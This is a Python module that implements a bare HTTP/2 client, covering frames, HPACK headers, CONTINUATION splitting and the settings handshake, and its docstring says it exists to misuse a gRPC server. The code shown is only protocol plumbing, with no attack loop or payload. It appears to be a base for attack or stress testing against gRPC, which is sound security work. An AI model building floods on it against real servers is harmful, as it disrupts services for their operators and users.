"""As much of an HTTP/2 client (RFC 9113) as it takes to misuse a gRPC server. Standard library only."""

import socket
import struct

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
ACK, END_STREAM, END_HEADERS = 1, 1, 4
CANCEL = 8
FRAME_BYTES = 16384  # the largest that a server takes unless it says otherwise


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def integer(value, prefix_bits, first):
    """HPACK's integers, RFC 7541, 5.1."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = bytearray([first | limit])
    value -= limit
    while value >= 128:
        out.append(value & 127 | 128)
        value >>= 7
    out.append(value)
    return bytes(out)


def literal(name, value):
    """A header that no table is to keep."""
    name, value = name.encode(), value if isinstance(value, bytes) else value.encode()
    return b"\x00" + integer(len(name), 7, 0) + name + integer(len(value), 7, 0) + value


def call_headers(method, *more):
    """Those that open a gRPC call, and more."""
    block = b"".join(literal(name, value) for name, value in (
        (":method", "POST"), (":scheme", "http"), (":path", method), (":authority", "localhost"), ("te", "trailers"),
        ("content-type", "application/grpc")))
    return block + b"".join(literal(name, value) for name, value in more)


def headers(stream, block, flags=0):
    """One HEADERS frame, and as many CONTINUATIONs as the block takes."""
    parts = [block[i:i + FRAME_BYTES] for i in range(0, len(block), FRAME_BYTES)] or [b""]
    out = b""
    for i, part in enumerate(parts):
        last = END_HEADERS if i == len(parts) - 1 else 0
        out += frame(HEADERS if i == 0 else CONTINUATION, last | (flags if i == 0 else 0), stream, part)
    return out


def read_exactly(connection, size):
    data = b""
    while len(data) < size:
        got = connection.recv(size - len(data))
        if not got:
            raise ConnectionError("closed")
        data += got
    return data


def connect(address, timeout=20, acknowledge=True):
    """A connection after its preface. gRPC 1.51 holds a client to its settings once that has acknowledged them."""
    host, port = address.rsplit(":", 1)
    connection = socket.create_connection((host, int(port)), timeout=timeout)
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
    if acknowledge:
        read_exactly(connection, int.from_bytes(read_exactly(connection, 9)[:3], "big"))  # the server's settings come first
        connection.sendall(frame(SETTINGS, ACK, 0))
    return connection


def read_frames(connection):
    """(kind, flags, stream, payload) of each frame until the server closes."""
    buffer = b""
    while True:
        while len(buffer) >= 9 and len(buffer) >= 9 + int.from_bytes(buffer[:3], "big"):
            size = int.from_bytes(buffer[:3], "big")
            kind, flags, stream = struct.unpack(">BBI", buffer[3:9])
            yield kind, flags, stream & 0x7FFFFFFF, buffer[9:9 + size]
            buffer = buffer[9 + size:]
        try:
            got = connection.recv(65536)
        except ConnectionError:
            return
        if not got:
            return
        buffer += got
